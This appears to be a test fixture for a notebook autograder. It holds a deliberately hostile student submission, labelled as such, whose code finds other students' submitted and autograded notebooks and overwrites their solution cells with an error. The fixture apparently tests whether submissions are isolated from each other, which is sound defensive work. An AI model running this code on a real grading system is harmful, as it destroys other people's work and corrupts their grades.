"""Honest, but overwrites every other student's submitted and autograded notebooks it can find."""
ASSIGNMENT = "matrix_fundamentals"

EXPECTED_FAILING_CELLS = ()

CELL_task_course_matrices = '''
import glob
import json
import os

_mine = os.getcwd()
_folder = _mine
while os.path.dirname(_folder) != _folder:
    _folder = os.path.dirname(_folder)
    for _kind in ("submitted", "autograded"):
        for _path in glob.glob(os.path.join(_folder, _kind, "*", "*", "*.ipynb")):
            if os.path.dirname(_path) == _mine:
                continue
            try:
                with open(_path) as _handle:
                    _notebook = json.load(_handle)
                for _cell in _notebook["cells"]:
                    if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                        _cell["source"] = "raise RuntimeError('sabotaged')"
                with open(_path, "w") as _handle:
                    json.dump(_notebook, _handle)
                print("rewrote", _path)
            except Exception as _error:
                print(_path, _error)
'''
